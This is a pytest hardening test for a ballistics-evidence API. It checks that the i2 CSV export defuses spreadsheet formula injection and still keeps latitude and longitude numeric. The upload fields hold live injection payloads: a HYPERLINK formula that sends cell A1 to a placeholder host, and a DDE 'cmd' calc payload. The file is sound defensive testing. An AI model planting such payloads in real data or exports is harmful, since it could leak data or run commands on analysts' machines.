"""Issue 12 (hardening): what a hostile or careless user broke. Each test failed on main at 7dd266b."""
from __future__ import annotations

import csv
import io

import pytest
from api_helpers import run_jobs, upload


def _confirm_pair(client, examiner, x: int, y: int) -> dict:
    for it in client.get(f"/v1/exhibits/{x}/candidates", headers=examiner).json()["items"]:
        if it["candidate"]["id"] == y:
            r = client.post(f"/v1/candidates/{it['id']}/review", headers=examiner, json={"decision": "confirmed"})
            assert r.status_code == 201, r.text
            return it
    raise AssertionError(f"no candidate between {x} and {y}")


# --------------------------------------------------------------------------- 1. CSV formula injection
def test_i2_csv_export_neutralises_formulas_and_keeps_numbers(client, examiner, intel, scans):
    from test_csvsafe import assert_no_formula  # tests/ is on sys.path (its conftest.py)

    hostile = dict(case_number='=HYPERLINK("http://x/?"&A1,"click")', agency="@SUM(1+1)",
                   place_text="+cmd|' /C calc'!A0", lat=-33.9, lon=-151.2)
    a1 = upload(client, examiner, scans["a1"], name="a1.x3p", exhibit_ref="@SUM(1+1)", **hostile)
    a2 = upload(client, examiner, scans["a2"], name="a2.x3p", exhibit_ref="-2+3+cmd|' /C calc'!A0",
                case_number="-1+1", role="test_fire", firearm_serial="=1+1")
    assert a1.status_code == 201 and a2.status_code == 201, (a1.text, a2.text)
    run_jobs(client)
    _confirm_pair(client, examiner, a1.json()["id"], a2.json()["id"])
    r = client.get("/v1/export/i2.csv", headers=intel)
    assert r.status_code == 200
    assert_no_formula(r.text)
    rows = list(csv.DictReader(io.StringIO(r.text)))
    hit = next(x for x in rows if x["link_type"] == "ballistic_hit")
    ends = {hit["from_case"], hit["to_case"]}
    assert ends == {"'" + hostile["case_number"], "'-1+1"}
    side = "from" if hit["from_case"].startswith("'=") else "to"
    assert hit[f"{side}_agency"] == "'@SUM(1+1)" and hit[f"{side}_place"] == "'+cmd|' /C calc'!A0"
    # numbers stay numbers: a negative latitude is the number, not text
    assert hit[f"{side}_lat"] == "-33.9" and hit[f"{side}_lon"] == "-151.2"
    assert float(hit["score"]) > 0 and int(hit["cmc_count"]) >= 0
    tf = next(x for x in rows if x["link_type"] == "test_fired_from")
    assert tf["to_id"] == "FIREARM-=1+1"
    assert tf["to_firearm_serial"] == "'=1+1"
